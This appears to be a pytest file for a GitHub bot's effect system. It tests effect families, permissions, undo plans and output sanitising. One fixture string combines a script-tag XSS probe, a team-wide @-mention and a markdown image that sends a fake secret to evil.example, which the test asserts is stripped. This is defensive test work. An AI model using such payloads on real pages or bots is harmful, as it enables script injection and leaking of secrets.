"""Each effect has one family, and each family says all that Hob has to know of it."""

import json
from typing import Any, get_args

import pytest

from bot import log
from bot.core.effect_history import Did, PastRun
from bot.core.effects import EditComment, Effect, React, SetPull
from bot.core.facts import UndoFacts
from bot.core.memory import Memory
from bot.core.refs import Login, RepoRef
from bot.effects import DUTIES, FAMILIES, UNDOING, of, undo
from bot.effects.base import Destination, OnGitHub
from bot.http import Request
from bot.runs.effect_policy import KINDS, safe
from handlers import router
from tests.effects.samples import LESSON, samples
from tests.github.conftest import KEY, MARKER, Canned, Connect

UNION: list[type[Effect]] = list(get_args(Effect))
SECRET = "hunter2-" + "k3y" * 9
HOSTILE = f"<script>alert(1)</script> @octo/everyone ![x](https://evil.example/{SECRET}) {SECRET}"


def facts(effect: Effect, *before: Effect) -> UndoFacts:
    runs = tuple(PastRun(n, (Did(one, 1),)) for n, one in enumerate((*before, effect), 1))
    return UndoFacts(1, runs[-1], runs, Login("mona"), memory=(Memory(7, LESSON, 0.0, None),))


def test_every_member_of_the_union_has_exactly_one_family() -> None:
    kinds = [one.kind for family in FAMILIES for one in family.FAMILY]
    assert sorted(kinds, key=str) == sorted(UNION, key=str)
    assert set(DUTIES) == set(samples()) == set(KINDS.values())


@pytest.mark.parametrize("kind", UNION)
def test_what_is_on_github_names_its_permission(kind: type[Effect]) -> None:
    effect = samples()[kind]
    duties = of(effect)
    if isinstance(duties, OnGitHub):
        needed = duties.needs(effect).values()
        assert "write" in needed
        assert set(needed) <= {"read", "write"}


@pytest.mark.parametrize("kind", UNION)
def test_each_effect_is_undone_or_a_person_reads_why_not(kind: type[Effect]) -> None:
    effect = samples()[kind]
    plan = undo.plan(facts(effect))
    assert {type(one) for one in plan.effects[:-2]} <= of(effect).undone_by
    reply = plan.effects[-1]
    assert "Took back" in reply.body or "Not taken back" in reply.body  # type: ignore[union-attr]


def test_undo_may_cause_whatever_takes_something_back() -> None:
    route = router.commands["undo"]
    assert route.may >= UNDOING
    old = EditComment(1, 1, "before")
    assert undo.plan(facts(EditComment(1, 1, "after"), old)).effects[0] == old
    assert (
        not of(SetPull(1, "active")).undone(SetPull(1, "active"), 0, facts(React("issue", 1, "eyes"))).effects
    )


@pytest.mark.parametrize("kind", UNION)
async def test_X2_what_reaches_github_is_harmless_and_holds_no_secret(
    connect: Connect,
    repo: RepoRef,
    kind: type[Effect],
) -> None:
    log.hide(SECRET)
    effect = safe(samples(HOSTILE)[kind], repo)
    duties = of(effect)
    if not isinstance(duties, OnGitHub):
        return

    def answered(request: Request) -> Any:
        sha = "a" * 40
        made = {"sha": sha, "tree": {"sha": sha}, "object": {"sha": sha}, "message": MARKER.trailer(KEY)}
        made["parents"] = [{"sha": sha}]
        pull = {"number": 1, "html_url": "", "user": {"login": f"{MARKER.app_slug}[bot]"}}
        return {"data": {}} if request.url.path.endswith("/graphql") else {"id": 1, **made, **pull}

    canned = Canned(answered)
    async with connect(transport=canned).repository(repo, duties.needs(effect)) as api:
        await duties.send(effect, Destination(api, repo, KEY, MARKER))
    assert canned.requests
    for request in canned.requests:
        sent = request.content.decode()
        assert SECRET not in sent
        assert "<script" not in sent
        assert "evil.example" not in json.dumps(sent)
